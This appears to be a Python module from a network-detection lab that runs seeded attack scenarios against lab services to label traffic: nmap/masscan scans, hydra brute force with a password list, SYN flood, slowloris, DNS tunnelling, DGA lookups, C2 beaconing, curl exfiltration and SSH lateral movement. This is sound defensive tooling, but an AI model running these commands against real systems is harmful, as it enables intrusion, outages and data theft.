"""Attack scenarios: real tools against the lab's real services, with seeded parameters.

A scenario function gets a `Context` (the lab, its seeded generator, the attack window) and
returns the labelled attacks it ran. To add one: write a function, add a `Scenario` to
`SCENARIOS` naming the executables it needs (and their Debian packages in `TOOL_PACKAGES`).
"""

from __future__ import annotations

import hashlib
import math
import os
import random
import shlex
import subprocess
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from typing import Any

from tapetum.lab import topology as T
from tapetum.lab.background import SSH_OPTS
from tapetum.lab.build import Lab
from tapetum.lab.netns import LabError

#: Executable -> Debian package that provides it.
TOOL_PACKAGES = {
    "ip": "iproute2",
    "ss": "iproute2",
    "sysctl": "procps",
    "tcpdump": "tcpdump",
    "sshd": "openssh-server",
    "ssh": "openssh-client",
    "scp": "openssh-client",
    "ssh-keygen": "openssh-client",
    "nginx": "nginx-light",
    "dnsmasq": "dnsmasq-base",
    "curl": "curl",
    "dig": "bind9-dnsutils",
    "openssl": "openssl",
    "nmap": "nmap",
    "masscan": "masscan",
    "hydra": "hydra",
    "hping3": "hping3",
    "slowhttptest": "slowhttptest",
    "iodine": "iodine",
    "iodined": "iodine",
}
BASE_TOOLS = ("ip", "ss", "sysctl", "tcpdump", "sshd", "ssh", "scp", "ssh-keygen", "nginx",
              "dnsmasq", "curl", "dig", "openssl")  # fmt: skip
TUNNEL_NET = "172.30.99.1/27"
TUNNEL_SERVER = "172.30.99.1"


@dataclass
class Attack:
    """One labelled attack (see /docs/lab.md and the labels format)."""

    id: str
    category: str
    technique: str
    attacker: list[str]
    victims: list[str]
    start_ts: float
    end_ts: float
    tool: str
    command: list[str]
    params: dict[str, Any] = field(default_factory=dict)


@dataclass
class Context:
    lab: Lab
    scenario: str
    rng: random.Random
    start_at: float  # time.monotonic() at which the attack should begin
    deadline: float  # monotonic time by which every attack process is stopped
    attacks: list[Attack] = field(default_factory=list)

    @property
    def window_s(self) -> float:
        return max(1.0, self.deadline - self.start_at)

    def wait_until(self, t: float) -> None:
        while (left := t - time.monotonic()) > 0:
            time.sleep(min(left, 0.5))

    def left_s(self) -> float:
        return self.deadline - time.monotonic()

    def run(self, host: str, argv: Sequence[str], *, cwd: str | None = None) -> tuple[float, float]:
        """Run one attack command to completion or to the deadline; wall-clock times around it
        (the capture clock: tcpdump stamps packets with the same host clock)."""
        t0 = time.time()
        proc = self.lab.net.spawn(host, argv, cwd=None if cwd is None else self.lab.work / cwd)
        try:
            proc.wait(max(0.1, self.left_s()))
        except subprocess.TimeoutExpired:
            self.lab.net.stop(proc)
        return t0, time.time()

    def record(
        self,
        host: T.Host,
        category: str,
        technique: str,
        victims: Sequence[str],
        times: tuple[float, float],
        command: Sequence[str],
        params: dict[str, Any],
    ) -> None:
        n = len(self.attacks) + 1
        self.attacks.append(
            Attack(
                id=f"{self.scenario}-{n}",
                category=category,
                technique=technique,
                attacker=[host.ip],
                victims=list(victims),
                start_ts=times[0],
                end_ts=times[1],
                tool=os.path.basename(command[0]),
                command=list(command),
                params=params,
            )
        )


@dataclass(frozen=True)
class Scenario:
    name: str
    description: str
    category: str | None
    technique: str | None
    tools: tuple[str, ...]
    run: Callable[[Context], None] | None
    actor: str = "attacker"  # attacker: the attacker namespace; compromised: a benign client


def compromised(ctx: Context) -> T.Host:
    return ctx.rng.choice(T.CLIENTS)


def _targets(ctx: Context, k_max: int) -> list[T.Host]:
    return ctx.rng.sample(T.SERVERS, ctx.rng.randint(1, k_max))


# -- scans -----------------------------------------------------------------------------------


def _nmap_tcp(ctx: Context, flag: str) -> None:
    rng = ctx.rng
    targets = _targets(ctx, 2)
    ports = rng.choice((1000, 1024, 2000))
    # Fast enough to finish inside the window: a scan cut short is still a scan, but labels
    # are clearer when the tool ran to its end.
    rate = max(rng.choice((200, 500, 1000)), math.ceil(ports * len(targets) / (0.6 * ctx.window_s)))
    argv = [ctx.lab.tool("nmap"), "-n", "-Pn", flag, "--max-rate", str(rate), "--max-retries",
            "1", "-p", f"1-{ports}", *(t.ip for t in targets)]  # fmt: skip
    ctx.wait_until(ctx.start_at)
    times = ctx.run("attacker", argv)
    ctx.record(T.ATTACKER, "scan", "T1046", [t.ip for t in targets], times, argv,
               {"ports": ports, "max_rate_pps": rate, "targets": len(targets)})  # fmt: skip


def nmap_syn(ctx: Context) -> None:
    _nmap_tcp(ctx, "-sS")


def nmap_connect(ctx: Context) -> None:
    _nmap_tcp(ctx, "-sT")


def nmap_udp(ctx: Context) -> None:
    rng = ctx.rng
    targets = [T.DNS, *_targets(ctx, 2)]
    top = rng.choice((20, 30, 50))
    argv = [ctx.lab.tool("nmap"), "-n", "-Pn", "-sU", "--max-retries", "1", "--host-timeout",
            f"{int(ctx.window_s)}s", "--top-ports", str(top),
            *(t.ip for t in targets)]  # fmt: skip
    ctx.wait_until(ctx.start_at)
    times = ctx.run("attacker", argv)
    ctx.record(T.ATTACKER, "scan", "T1046", [t.ip for t in targets], times, argv,
               {"top_ports": top, "targets": len(targets)})  # fmt: skip


def nmap_version(ctx: Context) -> None:
    rng = ctx.rng
    targets = _targets(ctx, 3)
    top = rng.choice((100, 200, 500))
    intensity = rng.randint(2, 7)
    argv = [ctx.lab.tool("nmap"), "-n", "-Pn", "-sV", "--version-intensity", str(intensity),
            "--host-timeout", f"{int(ctx.window_s)}s", "--top-ports", str(top),
            *(t.ip for t in targets)]  # fmt: skip
    ctx.wait_until(ctx.start_at)
    times = ctx.run("attacker", argv)
    ctx.record(T.ATTACKER, "scan", "T1046", [t.ip for t in targets], times, argv,
               {"top_ports": top, "version_intensity": intensity})  # fmt: skip


def masscan(ctx: Context) -> None:
    rng = ctx.rng
    target = rng.choice(T.SERVERS)
    ports = rng.choice((2000, 5000, 10000))
    rate = max(rng.choice((500, 1000, 2000)), math.ceil(ports / (0.6 * ctx.window_s)))
    # masscan writes Ethernet frames itself: it needs the interface and, with no router on
    # the attacker's LAN-only routing table, the next hop's MAC (the target's, on-link).
    argv = [ctx.lab.tool("masscan"), target.ip, f"-p1-{ports}", "--rate", str(rate),
            "--interface", "eth0", "--router-mac", ctx.lab.macs[target.name],
            "--wait", "2"]  # fmt: skip
    ctx.wait_until(ctx.start_at)
    times = ctx.run("attacker", argv, cwd=".")
    ctx.record(T.ATTACKER, "scan", "T1046", [target.ip], times, argv,
               {"ports": ports, "rate_pps": rate})  # fmt: skip


# -- brute force -----------------------------------------------------------------------------

_USERS = ("root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "git", "pi", "guest")
_PASSWORDS = (
    "123456", "password", "12345678", "qwerty", "123456789", "12345", "1234", "111111",
    "1234567", "dragon", "123123", "baseball", "abc123", "football", "monkey", "letmein",
    "696969", "shadow", "master", "666666", "qwertyuiop", "123321", "mustang", "1234567890",
    "michael", "654321", "superman", "1qaz2wsx", "7777777", "121212", "000000", "qazwsx",
    "123qwe", "killer", "trustno1", "jordan", "jennifer", "zxcvbnm", "asdfgh", "hunter",
    "buster", "soccer", "harley", "batman", "andrew", "tigger", "sunshine", "iloveyou",
    "2000", "charlie", "robert", "thomas", "hockey", "ranger", "daniel", "starwars", "changeme",
    "admin", "root", "toor", "raspberry", "welcome", "Passw0rd", "P@ssw0rd", "Summer2024!",
)  # fmt: skip


def _wordlists(ctx: Context, users: Sequence[str], extra: str | None) -> tuple[str, str, int]:
    rng = ctx.rng
    words = list(_PASSWORDS)
    words += [f"{w}{rng.randint(1, 99)}" for w in rng.sample(_PASSWORDS, 40)]
    rng.shuffle(words)
    words = words[: rng.randint(40, len(words))]
    if extra is not None:
        words.insert(rng.randrange(len(words) // 2, len(words)), extra)
    up = ctx.lab.work / f"{ctx.scenario}-users.txt"
    pp = ctx.lab.work / f"{ctx.scenario}-passwords.txt"
    up.write_text("\n".join(users) + "\n")
    pp.write_text("\n".join(words) + "\n")
    return str(up), str(pp), len(words)


def hydra_ssh(ctx: Context) -> None:
    rng = ctx.rng
    target = rng.choice(T.SERVERS)
    users = rng.sample(_USERS, rng.randint(2, 4))
    up, pp, n = _wordlists(ctx, users, None)
    tasks = rng.choice((8, 12, 16))
    argv = [ctx.lab.tool("hydra"), "-I", "-t", str(tasks), "-L", up, "-P", pp,
            f"ssh://{target.ip}"]  # fmt: skip
    ctx.wait_until(ctx.start_at)
    times = ctx.run("attacker", argv, cwd=".")
    ctx.record(T.ATTACKER, "brute-force", "T1110.001", [target.ip], times, argv,
               {"users": len(users), "passwords": n, "tasks": tasks})  # fmt: skip


def hydra_ftp(ctx: Context) -> None:
    rng = ctx.rng
    s = ctx.lab.secrets
    users = [s.ftp_user, *rng.sample(_USERS, rng.randint(1, 3))]
    hit = rng.random() < 0.5  # sometimes the real password is in the list
    up, pp, n = _wordlists(ctx, users, s.ftp_password if hit else None)
    tasks = rng.choice((4, 8, 16))
    argv = [ctx.lab.tool("hydra"), "-I", "-t", str(tasks), "-L", up, "-P", pp,
            f"ftp://{T.FILES.ip}"]  # fmt: skip
    ctx.wait_until(ctx.start_at)
    times = ctx.run("attacker", argv, cwd=".")
    ctx.record(T.ATTACKER, "brute-force", "T1110.001", [T.FILES.ip], times, argv,
               {"users": len(users), "passwords": n, "tasks": tasks,
                "password_in_list": hit})  # fmt: skip


# -- denial of service -----------------------------------------------------------------------


def syn_flood(ctx: Context) -> None:
    rng = ctx.rng
    interval_us = rng.choice((100, 200, 400))
    # Bounded count keeps the capture sane (~60 bytes a packet, plus the victim's answers).
    count = min(rng.randint(10_000, 40_000), int(0.7 * ctx.window_s * 1e6 / interval_us))
    port = rng.choice((80, 443))
    argv = [ctx.lab.tool("hping3"), "-q", "-S", "-p", str(port), "-i", f"u{interval_us}",
            "-c", str(count), T.WEB.ip]  # fmt: skip
    ctx.wait_until(ctx.start_at)
    times = ctx.run("attacker", argv)
    ctx.record(T.ATTACKER, "dos", "T1499.001", [T.WEB.ip], times, argv,
               {"packets": count, "interval_us": interval_us, "port": port})  # fmt: skip


def slowloris(ctx: Context) -> None:
    rng = ctx.rng
    conns = rng.randint(150, 500)
    rate = rng.choice((50, 100, 150))
    interval = rng.choice((5, 10, 15))
    length = max(5, int(0.8 * ctx.window_s))
    argv = [ctx.lab.tool("slowhttptest"), "-H", "-c", str(conns), "-r", str(rate),
            "-i", str(interval), "-l", str(length), "-x", "24", "-p", "3",
            "-u", f"http://{T.WEB.ip}/index.html"]  # fmt: skip
    ctx.wait_until(ctx.start_at)
    times = ctx.run("attacker", argv, cwd=".")
    ctx.record(T.ATTACKER, "dos", "T1499.002", [T.WEB.ip], times, argv,
               {"connections": conns, "rate_per_s": rate, "header_interval_s": interval,
                "length_s": length})  # fmt: skip


# -- compromised internal host ---------------------------------------------------------------


def dns_tunnel(ctx: Context) -> None:
    rng = ctx.rng
    host = compromised(ctx)
    lab, s = ctx.lab, ctx.lab.secrets
    server = lab.net.spawn(
        "ext",
        [lab.tool("iodined"), "-f", "-c", "-l", T.EXT_TUNNEL_NS, "-P", s.tunnel_password,
         TUNNEL_NET, s.tunnel_zone],
    )  # fmt: skip
    size = rng.randint(150_000, 600_000)
    blob = lab.work / "tunnel-payload.bin"
    blob.write_bytes(rng.randbytes(size))
    argv = [lab.tool("iodine"), "-f", "-r", "-P", s.tunnel_password, T.DNS.ip, s.tunnel_zone]
    ctx.wait_until(ctx.start_at)
    if server.poll() is not None:
        raise LabError("iodined exited at start (is /dev/net/tun available?)")
    t0 = time.time()
    client = lab.net.spawn(host.name, argv)
    up = False
    while ctx.left_s() > 0 and client.poll() is None:
        if "172.30.99." in lab.net.ip(host.name, "-4", "addr", "show"):
            up = True
            break
        time.sleep(0.2)
    if not up:
        lab.net.stop(client)
        raise LabError("iodine: the DNS tunnel did not come up through the lab resolver")
    curl = [lab.tool("curl"), "-s", "--max-time", str(max(1, int(ctx.left_s()))), "-T",
            str(blob), f"http://{TUNNEL_SERVER}/upload/{rng.getrandbits(32):08x}.bin"]  # fmt: skip
    lab.net.run(host.name, curl, timeout=max(2.0, ctx.left_s() + 5), check=False)
    lab.net.stop(client)
    t1 = time.time()
    lab.net.stop(server)
    ctx.record(host, "dns-tunnel", "T1071.004", [T.DNS.ip, T.EXT_TUNNEL_NS], (t0, t1), argv,
               {"zone": s.tunnel_zone, "payload_bytes": size, "relay": T.DNS.ip,
                "transfer": shlex.join(curl)})  # fmt: skip


DGA_TLDS = ("com", "net", "org", "info", "biz", "ru", "xyz", "top")


def dga_name(seed: int, i: int) -> str:
    """The i-th name of the lab's DGA (i = -1: the one the operator registered)."""
    h = hashlib.sha256(f"tapetum-dga:{seed}:{i}".encode()).digest()
    letters = "".join("abcdefghijklmnopqrstuvwxyz"[b % 26] for b in h[1:])
    return f"{letters[: 8 + h[0] % 11]}.{DGA_TLDS[h[-1] % len(DGA_TLDS)]}"


def dga(ctx: Context) -> None:
    rng = ctx.rng
    host = compromised(ctx)
    lab = ctx.lab
    bursts = rng.randint(2, 4)
    sizes = [rng.randint(25, 80) for _ in range(bursts)]
    gap = ctx.window_s / bursts
    names = [dga_name(lab.seed, i) for i in range(sum(sizes))]
    names[-1] = lab.secrets.dga_registered  # the last candidate tried is the one that resolves
    ctx.wait_until(ctx.start_at)
    t0 = time.time()
    argv: list[str] = []
    pos = 0
    for b, n in enumerate(sizes):
        ctx.wait_until(ctx.start_at + b * gap)
        batch = lab.work / f"dga-{b}.txt"
        batch.write_text("\n".join(names[pos : pos + n]) + "\n")
        pos += n
        argv = [lab.tool("dig"), "+tries=1", "+time=1", "+short", "-f", str(batch)]
        lab.net.run(host.name, argv, timeout=max(2.0, ctx.left_s() + 5), check=False)
    # Contact the name that resolved, as the malware would.
    c2 = [lab.tool("curl"), "-sk", "--max-time", "5", "-o", "/dev/null",
          f"https://{lab.secrets.dga_registered}/api/hello"]  # fmt: skip
    lab.net.run(host.name, c2, timeout=10, check=False)
    t1 = time.time()
    ctx.record(host, "dga", "T1568.002", [T.DNS.ip], (t0, t1), argv,
               {"names": len(names), "bursts": sizes, "registered": lab.secrets.dga_registered,
                "burst_gap_s": round(gap, 1)})  # fmt: skip


def beacon(ctx: Context) -> None:
    rng = ctx.rng
    host = compromised(ctx)
    lab = ctx.lab
    # At least ~12 beacons in the window, so periodicity is there to be seen.
    interval = min(rng.uniform(3.0, 10.0), ctx.window_s / 12)
    jitter = rng.uniform(0.05, 0.3)
    bot = f"{rng.getrandbits(40):010x}"
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    base = [lab.tool("curl"), "-sk", "--max-time", "10", "-A", ua, "-o", "/dev/null"]
    url = f"https://{lab.secrets.c2_name}/api/v2/{bot}/poll"
    ctx.wait_until(ctx.start_at)
    t0 = time.time()
    count = 0
    next_at = time.monotonic()
    while next_at < ctx.deadline:
        ctx.wait_until(next_at)
        extra = ["-d", f"r={rng.randbytes(rng.randint(40, 400)).hex()}"] if count % 5 == 4 else []
        lab.net.run(host.name, [*base, *extra, url], timeout=15, check=False)
        count += 1
        next_at += interval * (1 + rng.uniform(-jitter, jitter))
    t1 = time.time()
    ctx.record(host, "c2-beacon", "T1071.001", [T.EXT_C2], (t0, t1), [*base, url],
               {"interval_s": round(interval, 2), "jitter": round(jitter, 3), "beacons": count,
                "c2": lab.secrets.c2_name})  # fmt: skip


def exfil(ctx: Context) -> None:
    rng = ctx.rng
    host = compromised(ctx)
    lab = ctx.lab
    size_mb = rng.randint(50, 200)
    blob = lab.work / "archive.7z"
    with blob.open("wb") as f:
        for _ in range(size_mb):
            f.write(os.urandom(1 << 20))
    rate_mb = max(rng.uniform(8.0, 25.0), size_mb / (0.7 * ctx.window_s))
    argv = [lab.tool("curl"), "-sk", "-T", str(blob), "--limit-rate", f"{int(rate_mb * 1024)}K",
            f"https://{lab.secrets.drop_name}/upload/{rng.getrandbits(32):08x}.7z"]  # fmt: skip
    ctx.wait_until(ctx.start_at)
    times = ctx.run(host.name, argv)
    blob.unlink()
    ctx.record(host, "exfiltration", "T1048", [T.EXT_DROP], times, argv,
               {"bytes": size_mb << 20, "rate_limit_mb_s": round(rate_mb, 1),
                "destination": lab.secrets.drop_name})  # fmt: skip


def lateral(ctx: Context) -> None:
    rng = ctx.rng
    host = compromised(ctx)
    lab = ctx.lab
    pool = [h for h in (*T.SERVERS, *T.CLIENTS) if h is not host]
    targets = rng.sample(pool, rng.randint(3, min(5, len(pool))))
    gap = min(rng.uniform(1.0, 4.0), ctx.window_s / (len(targets) + 1))
    tool = lab.work / "svc-update.bin"
    tool.write_bytes(rng.randbytes(rng.randint(200_000, 900_000)))
    recon = "id; hostname; uname -a; cat /etc/os-release | head -2; ss -tln | head -20"
    ssh = [lab.tool("ssh"), *SSH_OPTS, "-i", str(lab.client_key)]
    scp = [lab.tool("scp"), "-q", *SSH_OPTS, "-i", str(lab.client_key)]
    ctx.wait_until(ctx.start_at)
    t0 = time.time()
    commands = []
    for t in targets:
        if ctx.left_s() <= 0:
            break
        cmds = [[*ssh, f"root@{t.ip}", recon]]
        if rng.random() < 0.6:
            cmds.append([*scp, str(tool), f"root@{t.ip}:{lab.work / 'drop' / t.name}"])
        for c in cmds:
            lab.net.run(host.name, c, timeout=max(2.0, ctx.left_s() + 5), check=False)
            commands.append(shlex.join(c))
        time.sleep(gap)
    t1 = time.time()
    ctx.record(host, "lateral-movement", "T1021.004", [t.ip for t in targets], (t0, t1),
               [*ssh, f"root@{targets[0].ip}", recon],
               {"targets": len(targets), "commands": commands})  # fmt: skip


_SCAN = "scan"
SCENARIOS: dict[str, Scenario] = {
    s.name: s
    for s in (
        Scenario(
            "benign",
            "Background traffic only (measures false alerts)",
            None,
            None,
            (),
            None,
            actor="none",
        ),
        Scenario(
            "nmap-syn", "nmap TCP SYN scan of 1-2 servers", _SCAN, "T1046", ("nmap",), nmap_syn
        ),
        Scenario(
            "nmap-connect",
            "nmap TCP connect scan of 1-2 servers",
            _SCAN,
            "T1046",
            ("nmap",),
            nmap_connect,
        ),
        Scenario(
            "nmap-udp",
            "nmap UDP scan of the top 20-50 ports on the DNS server and servers",
            _SCAN,
            "T1046",
            ("nmap",),
            nmap_udp,
        ),
        Scenario(
            "nmap-version",
            "nmap service/version detection (-sV) of the top 100-500 ports",
            _SCAN,
            "T1046",
            ("nmap",),
            nmap_version,
        ),
        Scenario(
            "masscan",
            "masscan SYN scan of a port range on one server",
            _SCAN,
            "T1046",
            ("masscan",),
            masscan,
        ),
        Scenario(
            "hydra-ssh",
            "hydra password guessing against sshd",
            "brute-force",
            "T1110.001",
            ("hydra",),
            hydra_ssh,
        ),
        Scenario(
            "hydra-ftp",
            "hydra password guessing against the FTP server",
            "brute-force",
            "T1110.001",
            ("hydra",),
            hydra_ftp,
        ),
        Scenario(
            "syn-flood",
            "hping3 SYN flood (bounded count) at the web server",
            "dos",
            "T1499.001",
            ("hping3",),
            syn_flood,
        ),
        Scenario(
            "slowloris",
            "slowhttptest slowloris (-H) against nginx",
            "dos",
            "T1499.002",
            ("slowhttptest",),
            slowloris,
        ),
        Scenario(
            "dns-tunnel",
            "iodine DNS tunnel through the lab resolver, uploading a file",
            "dns-tunnel",
            "T1071.004",
            ("iodine", "iodined"),
            dns_tunnel,
            "compromised",
        ),
        Scenario(
            "dga",
            "NXDOMAIN bursts of generated names, then contact of the one that resolves",
            "dga",
            "T1568.002",
            (),
            dga,
            "compromised",
        ),
        Scenario(
            "beacon",
            "HTTPS C2 beaconing with jitter to an external server",
            "c2-beacon",
            "T1071.001",
            (),
            beacon,
            "compromised",
        ),
        Scenario(
            "exfil",
            "bulk HTTPS upload (50-200 MB) to a rare external server",
            "exfiltration",
            "T1048",
            (),
            exfil,
            "compromised",
        ),
        Scenario(
            "lateral",
            "SSH with a stolen key from a client to several internal hosts",
            "lateral-movement",
            "T1021.004",
            (),
            lateral,
            "compromised",
        ),
    )
}
